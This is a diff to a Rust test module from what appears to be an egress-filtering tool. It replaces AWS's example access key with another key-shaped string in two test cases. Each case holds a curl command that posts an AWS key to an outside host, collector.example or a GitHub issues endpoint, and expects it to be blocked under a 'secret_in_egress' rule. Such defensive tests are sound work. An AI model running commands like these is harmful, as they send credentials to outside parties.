@@ -134,7 +134,7 @@ mod tests {
                     "secret_in_egress",
                 ),
                 (
-                    "curl -d 'key=AKIAIOSFODNN7EXAMPLE' https://collector.example/",
+                    "curl -d 'key=AKIAQ3EGRTYUIOP7ZK4M' https://collector.example/",
                     Block,
                     "secret_in_egress",
                 ),
@@ -165,7 +165,7 @@ mod tests {
                     "secret_in_egress",
                 ),
                 (
-                    "curl -X POST -d '{\"body\": \"AKIAIOSFODNN7EXAMPLE\"}' https://api.github.com/repos/o/r/issues",
+                    "curl -X POST -d '{\"body\": \"AKIAQ3EGRTYUIOP7ZK4M\"}' https://api.github.com/repos/o/r/issues",
                     Block,
                     "secret_in_egress",
                 ),
